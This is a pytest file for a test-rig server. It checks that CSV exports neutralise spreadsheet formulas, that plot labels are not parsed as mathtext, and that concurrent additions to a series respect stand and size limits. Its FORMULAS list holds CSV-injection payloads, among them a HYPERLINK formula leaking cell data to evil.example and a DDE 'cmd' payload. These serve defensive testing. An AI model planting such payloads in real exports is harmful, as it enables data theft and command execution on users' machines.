"""Series against hostile text and concurrent adds (issue 22, item 11).

A user's text (a level, an operator) is never evaluated: a ``runs.csv`` cell that a
spreadsheet would take for a formula (OWASP's CSV injection: ``=``, ``+``, ``-``, ``@``, a
tab or a CR first) starts with ``'``; a level is drawn in the plots as written, never
parsed as mathtext (``$\\foo$`` made the series page and its reports 500 until removed).
Adds at once never mix two stands in a series (an MTOS and an SMTs-2 run were put in one
in 7 of 20 rounds) nor pass the limit of 100 runs (98 members and 14 adds at once gave
101): in both series stores, by threads against the store, and over HTTP."""

from __future__ import annotations

import csv
import dataclasses
import io
import sqlite3
import threading
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import httpx
import numpy as np
import pytest
from fastapi.testclient import TestClient

from rigserver.reports.formatting import spreadsheet_text
from rigserver.reports.series_plots import Curve, overlay
from rigserver.storage.cluster.series_postgres import PostgresSeries
from rigserver.storage.errors import MemberExists, OtherStand, SeriesFull
from rigserver.storage.series import SeriesStore, SqliteSeries
from rigsim.simulators import simulate
from rigsim.simulators.smts2 import Smts2Settings
from schemas.series import SERIES_RUNS_LIMIT, SeriesCreate, SeriesPurpose
from schemas.stands import StandKind
from tests.api.conftest import READER, WRITER, Server, auth, in_process
from tests.hardening.conftest import API, keys_file
from tests.postgres import postgres_server, postgres_url, sqlite_or_postgres  # noqa: F401 (fixtures)
from tests.reports.simulated import post, series_of

#: Cells a spreadsheet evaluates (OWASP, CSV injection), as a level or an operator.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=1+2",
    "@SUM(A1:A9)",
    "+1+2",
    "-1+2",
    "\t=1+2",
    "\r=1+2",
    "  =1+2",
    "=cmd|' /C calc'!A0",
]
#: Levels that are broken, or working, mathtext.
MATH_TEXT = ["$\\foo$", "$x_$", "$", "$$", "a$b$c", "\\$", "x_{1}", "\\foo_1", "{", "^^"]


# --- CSV injection -------------------------------------------------------------------------


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_cell_that_starts_like_a_formula_starts_with_a_quote(cell: str) -> None:
    assert spreadsheet_text(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell", ["", "I-20A", "300 N", "-1.5", "+3e-4", "-0,25", "2026-11-25", "a=b", "o'Neil"]
)
def test_numbers_and_other_text_are_left_alone(cell: str) -> None:
    assert spreadsheet_text(cell) == cell


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[TestClient, list[str]]]:
    """Two finished SMTs-2 runs (with curves for the overlay plots), the operator's name a
    formula."""
    with in_process(tmp_path_factory.mktemp("hostile-series")) as client:
        runs = []
        for i, operator in enumerate(("=1+2", "@SUM(A1)")):
            sim = simulate(StandKind.SMTS2, Smts2Settings(revolutions=2000.0), seed=60 + i)
            named = sim.run_create.model_copy(update={"operator": operator})
            runs.append(post(client, dataclasses.replace(sim, run_create=named), WRITER))
        yield client, runs


def _comparison(client: TestClient, runs: list[str], levels: list[str]) -> str:
    return series_of(
        client, WRITER, runs, levels, name="hostile", purpose="comparison", factor="oil"
    )


def test_formulas_in_runs_csv_are_neutralised(lab: tuple[TestClient, list[str]]) -> None:
    client, runs = lab
    levels = [FORMULAS[0], "-1+2"]
    series_id = _comparison(client, runs, levels)
    r = client.get(f"{API}/series/{series_id}/runs.csv", headers=auth(READER))
    assert r.status_code == 200, r.text
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert [row["level"] for row in rows] == ["'" + level for level in levels]
    assert [row["operator"] for row in rows] == ["'=1+2", "'@SUM(A1)"]
    for row in rows:  # every cell: a number, or text a spreadsheet shows as text
        for cell in row.values():
            assert spreadsheet_text(cell) == cell or cell.startswith("'"), row


# --- math text ---------------------------------------------------------------------------------


def test_the_overlay_draws_any_level_as_written() -> None:
    x = np.linspace(0.0, 1.0, 5)
    curves = [Curve("a", x, x), Curve("b", x, x + 0.1)]
    for paired in (False, True):
        svg = overlay(
            {level: curves for level in MATH_TEXT},
            xlabel="L, m",
            ylabel="$f$",
            mean_label="mean f_э",
            paired=paired,
        )
        assert svg.startswith("<?xml") or "<svg" in svg


@pytest.mark.parametrize("level", ["$\\foo$", "$x_$", "\\foo_1"])
def test_a_level_of_broken_math_text_leaves_the_page_and_reports_readable(
    lab: tuple[TestClient, list[str]], level: str
) -> None:
    client, runs = lab
    series_id = _comparison(client, runs, [level, "I-40A"])
    for path in (
        f"/series/{series_id}",
        f"{API}/series/{series_id}/report.html",
        f"{API}/series/{series_id}/report.html?lang=ru",
        f"{API}/series/{series_id}",
    ):
        r = client.get(path, headers=auth(READER))
        assert r.status_code == 200, (path, r.text[:500])


# --- adds at once: the store -------------------------------------------------------------------


@pytest.fixture(params=["sqlite", "postgres"])
def series(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[SeriesStore]:
    yield from sqlite_or_postgres(
        request,
        lambda: SqliteSeries(tmp_path / "series.sqlite"),
        lambda url: PostgresSeries(url, pool_size=8),
        "rig_series_members, rig_series",
    )


def _run_id(n: int) -> str:
    return f"20261126T120000Z-{n:08x}"


def _at_once(calls: list[Callable[[], Any]]) -> list[Any]:
    """Every call in a thread of its own, released together: each one's result, or the
    exception it raised."""
    start = threading.Barrier(len(calls))

    def one(call: Callable[[], Any]) -> Any:
        start.wait()
        try:
            return call()
        except Exception as exc:
            return exc

    with ThreadPoolExecutor(len(calls)) as pool:
        return list(pool.map(one, calls))


def test_adds_at_once_never_mix_two_stands(series: SeriesStore) -> None:
    for round_ in range(20):
        made = series.create(SeriesCreate(name=f"r{round_}", purpose=SeriesPurpose.REPEATABILITY))
        stands = ["mtos", "smts2"] * 4
        outcomes = _at_once(
            [
                lambda n=n, stand=stand, sid=made.id, base=round_ * 100: series.add(
                    sid, _run_id(base + n), None, stand=stand
                )
                for n, stand in enumerate(stands)
            ]
        )
        added = {n for n, o in enumerate(outcomes) if not isinstance(o, Exception)}
        assert all(isinstance(o, OtherStand) for o in outcomes if isinstance(o, Exception))
        assert len({stands[n] for n in added}) == 1, outcomes
        assert len(series.get(made.id).members) == len(added) == 4


def test_adds_at_once_never_pass_the_limit(series: SeriesStore) -> None:
    made = series.create(SeriesCreate(name="full", purpose=SeriesPurpose.REPEATABILITY))
    for n in range(SERIES_RUNS_LIMIT - 2):
        series.add(made.id, _run_id(n), None, stand="smts2")
    outcomes = _at_once(
        [lambda n=n: series.add(made.id, _run_id(1000 + n), None, stand="smts2") for n in range(14)]
    )
    refused = [o for o in outcomes if isinstance(o, Exception)]
    assert len(refused) == 12 and all(isinstance(o, SeriesFull) for o in refused), refused
    assert len(series.get(made.id).members) == SERIES_RUNS_LIMIT
    with pytest.raises(SeriesFull, match=f"holds {SERIES_RUNS_LIMIT} runs"):
        series.add(made.id, _run_id(5000), None, stand="smts2")
    with pytest.raises(MemberExists):  # a member already: refused whatever the room
        series.add(made.id, _run_id(0), None, stand="smts2", limit=SERIES_RUNS_LIMIT + 1)


def test_a_member_from_before_the_stand_was_kept_is_no_stand(tmp_path: Path) -> None:
    """A members table of an older version gets the column; its rows say no stand."""
    path = tmp_path / "series.sqlite"
    with sqlite3.connect(path) as db:
        db.executescript(
            "CREATE TABLE series (id TEXT PRIMARY KEY, name TEXT NOT NULL, purpose TEXT NOT "
            "NULL, factor TEXT, notes TEXT NOT NULL, created TEXT NOT NULL);"
            "CREATE TABLE members (n INTEGER PRIMARY KEY AUTOINCREMENT, series_id TEXT NOT "
            "NULL REFERENCES series(id), run_id TEXT NOT NULL, level TEXT, added TEXT NOT "
            "NULL, UNIQUE (series_id, run_id));"
            "INSERT INTO series VALUES ('s-00000000000a', 'old', 'repeatability', NULL, '', "
            "'2026-11-01T00:00:00+00:00');"
            "INSERT INTO members (series_id, run_id, level, added) VALUES ('s-00000000000a', "
            "'20261101T000000Z-00000001', NULL, '2026-11-01T00:00:00+00:00');"
        )
    store = SqliteSeries(path)
    try:
        got = store.add("s-00000000000a", _run_id(2), None, stand="mtos")
        assert [m.run_id for m in got.members] == ["20261101T000000Z-00000001", _run_id(2)]
        with pytest.raises(OtherStand):
            store.add("s-00000000000a", _run_id(3), None, stand="smts2")
    finally:
        store.close()


# --- adds at once: over HTTP -------------------------------------------------------------------


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    tmp = tmp_path_factory.mktemp("series-races")
    served = Server(tmp / "data", keys_file(tmp))
    served.start()
    try:
        yield served
    finally:
        served.stop()


def _open(http: httpx.Client, stand: str) -> str:
    r = http.post(f"{API}/runs", json={"stand": stand, "operator": "x"})
    assert r.status_code == 201, r.text
    return str(r.json()["id"])


def _new_series(http: httpx.Client) -> str:
    r = http.post(f"{API}/series", json={"name": "races", "purpose": "repeatability"})
    assert r.status_code == 201, r.text
    return str(r.json()["id"])


def _members(http: httpx.Client, series_id: str) -> list[str]:
    listed = {s["id"]: s for s in http.get(f"{API}/series").json()}
    return [m["run_id"] for m in listed[series_id]["members"]]


def test_adds_at_once_over_http_never_mix_stands(server: Server) -> None:
    with httpx.Client(base_url=server.url, headers=auth(WRITER), timeout=60) as http:
        mtos = [_open(http, "mtos") for _ in range(3)]
        smts2 = [_open(http, "smts2") for _ in range(3)]
        stand_of = dict.fromkeys(mtos, "mtos") | dict.fromkeys(smts2, "smts2")
        for _ in range(20):
            series_id = _new_series(http)
            runs = [r for pair in zip(mtos, smts2, strict=True) for r in pair]
            statuses = _at_once(
                [
                    lambda r=r, sid=series_id: (
                        http.post(f"{API}/series/{sid}/runs", json={"run_id": r}).status_code
                    )
                    for r in runs
                ]
            )
            assert sorted(statuses) == [201] * 3 + [409] * 3, statuses
            members = _members(http, series_id)
            assert len({stand_of[r] for r in members}) == 1, members


def test_adds_at_once_over_http_never_pass_the_limit(server: Server) -> None:
    """98 members and 14 adds at once, ten rounds (two members taken out between them)."""
    with httpx.Client(base_url=server.url, headers=auth(WRITER), timeout=60) as http:
        series_id = _new_series(http)
        for _ in range(SERIES_RUNS_LIMIT - 2):
            r = http.post(f"{API}/series/{series_id}/runs", json={"run_id": _open(http, "smts2")})
            assert r.status_code == 201, r.text
        outside = [_open(http, "smts2") for _ in range(14)]
        for _ in range(10):
            answers = _at_once(
                [
                    lambda r=r, sid=series_id: http.post(
                        f"{API}/series/{sid}/runs", json={"run_id": r}
                    )
                    for r in outside
                ]
            )
            statuses = [a.status_code for a in answers]
            assert sorted(statuses) == [201] * 2 + [409] * 12, statuses
            assert {a.json()["title"] for a in answers if a.status_code == 409} == {"Series full"}
            members = _members(http, series_id)
            assert len(members) == SERIES_RUNS_LIMIT
            joined = [r for r, a in zip(outside, answers, strict=True) if a.status_code == 201]
            for run_id in members[:2]:  # room for two again
                r = http.delete(f"{API}/series/{series_id}/runs/{run_id}")
                assert r.status_code == 200, r.text
            outside = [r for r in outside if r not in joined] + members[:2]
